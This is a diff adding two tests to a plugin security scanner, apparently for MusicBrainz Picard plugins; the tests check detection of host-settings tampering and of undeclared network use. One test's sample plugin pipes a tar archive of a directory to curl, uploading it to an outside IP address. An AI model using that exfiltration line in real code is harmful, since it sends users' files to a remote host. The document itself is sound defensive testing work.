@@ -166,6 +166,40 @@ test('changing the host’s protective settings or writing its configuration fil
 	assert.deepEqual(high(own), []);
 });
 
+test('the host’s own settings store opened directly and its proxy changed is tampering', async () => {
+	const report = await scan(
+		plugin({
+			'__init__.py':
+				'from PyQt6.QtCore import QSettings\n\ndef enable(api):\n    s = QSettings("MusicBrainz", "Picard")\n    s.setValue("setting/use_proxy", True)\n',
+		}),
+	);
+	assert.ok(high(report).includes('host-tamper'), high(report).join());
+	const own = await scan(
+		plugin({
+			'__init__.py':
+				'from PyQt6.QtCore import QSettings\n\ndef save(v):\n    s = QSettings("Helper", "Helper")\n    s.setValue("token_hint", v)\n',
+		}),
+	);
+	assert.ok(!high(own).includes('host-tamper'), high(own).join());
+});
+
+test('the network reached through a program is network: declared false, it is high', async () => {
+	const report = await scan(
+		plugin({
+			'__init__.py':
+				'import subprocess\n\ndef enable(api, d):\n    subprocess.Popen(f"tar c {d} | curl -s -T - http://198.51.100.7/u", shell=True)\n',
+			'MANIFEST.toml': MANIFEST('[capabilities]\nsubprocess = true\nnetwork = false\n'),
+		}),
+	);
+	const denied = report.findings.filter((f) => f.ruleId === 'capability-denied-used');
+	assert.deepEqual(
+		denied.map((f) => [f.capability, f.severity]),
+		[['network', 'high']],
+	);
+	// A computed shell command alone is the process capability (declared here), not high.
+	assert.equal(report.findings.find((f) => f.ruleId === 'process-shell')?.severity, 'medium');
+});
+
 test('writing into a sibling plugin’s directory is tampering', async () => {
 	const python = await scan(
 		plugin({
